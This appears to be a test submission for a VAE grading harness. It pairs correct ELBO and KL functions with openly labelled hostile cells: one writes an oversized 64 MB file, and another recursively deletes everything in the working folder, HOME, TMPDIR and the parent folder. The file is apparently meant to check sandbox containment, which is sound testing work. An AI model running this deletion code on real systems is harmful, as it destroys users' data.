# Right answers; writes a file larger than allowed, then deletes everything it can reach
# from its working folder, HOME and TMPDIR (and the folder above its working folder).
# %%
import os
import shutil
from pathlib import Path

import torch
import torch.nn.functional as F

from vae_edu import grading


# %%
def reparameterize(mu, logvar, eps):
    return mu + torch.exp(0.5 * logvar) * eps

def kl_free_bits(mu, logvar, free_bits):
    per_dim = -0.5 * (1 + logvar - mu**2 - torch.exp(logvar))
    return per_dim.mean(dim=0).clamp(min=free_bits).sum()

def negative_elbo(logits, x, mu, logvar, mask=None):
    bce = F.binary_cross_entropy_with_logits(logits, x, reduction="none")
    bce = bce if mask is None else bce * mask
    return bce.sum(dim=1).mean() + kl_free_bits(mu, logvar, 0.0)

# %%
with open("big.bin", "wb") as fh:
    for _ in range(64):
        fh.write(b"\0" * 2**20)  # 64 MB, over the file-size limit

# %%
here = Path.cwd()
for folder in (here, Path.home(), Path(os.environ["TMPDIR"])):
    for item in list(folder.iterdir()):
        if item.is_dir():
            shutil.rmtree(item, ignore_errors=True)
        else:
            item.unlink()
shutil.rmtree(here.parent, ignore_errors=True)
print("deleted", here.parent)

# %%
grading.check("negative_elbo", negative_elbo)
